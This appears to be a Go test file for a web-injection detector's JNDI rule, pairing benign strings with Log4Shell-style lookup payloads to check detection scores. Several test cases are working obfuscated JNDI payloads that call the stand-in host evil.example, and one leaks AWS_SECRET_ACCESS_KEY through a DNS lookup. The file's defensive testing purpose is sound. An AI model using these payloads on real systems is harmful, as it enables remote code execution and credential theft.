package injection

import (
	"strings"
	"testing"
)

func TestJNDI(t *testing.T) {
	runDetectCases(t, "jndi", []detectCase{
		{"plain", "${jndi:ldap://evil.example/a}", Header, 0, scoreStrong},
		{"upper case", "${JNDI:rmi://evil.example/a}", Header, 0, scoreStrong},
		{"lower lookups", "${${lower:j}ndi:${lower:l}dap://x/a}", Header, 0, scoreStrong},
		{"default lookups", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}", Header, 0, scoreStrong},
		{"env default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", Query, 0, scoreStrong},
		{"upper and date", "${${upper:j}${date:'n'}di:dns://x}", JSONValue, 0, scoreStrong},
		{"encoded", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", Query, 0, scoreStrong},
		{"unterminated", "${jndi:ldap://x/a", Header, 0, scoreStrong},
		{"env exfiltration", "${env:AWS_SECRET_ACCESS_KEY}.evil.example", Header, 0, scoreLikely},
		// Benign.
		{"placeholder", "${name}", JSONValue, 0, 0},
		{"shell", "export PATH=${HOME}/bin:${PATH}", JSONValue, 0, 0},
		{"price", "costs $5 {approx}", JSONValue, 0, 0},
	})
}

func TestJNDIDepthBound(t *testing.T) {
	// Nesting beyond maxLookupDepth is kept as text, not followed: the
	// evaluator's work stays linear.
	deep := strings.Repeat("${", 100) + "x" + strings.Repeat("}", 100)
	e := engineAt(t, Medium)
	if ms := e.Scan(deep, Header, nil); Total(ms) >= e.Threshold() {
		t.Errorf("deep nesting flagged: %s", describe(ms))
	}
}

func FuzzJNDI(f *testing.F) {
	fuzzDetector(f, &jndiDetector, "${jndi:ldap://x}", "${${::-j}ndi:x}", "${${${", "}}}}", "${lower:${upper:x}}", "${date:'j'}")
}
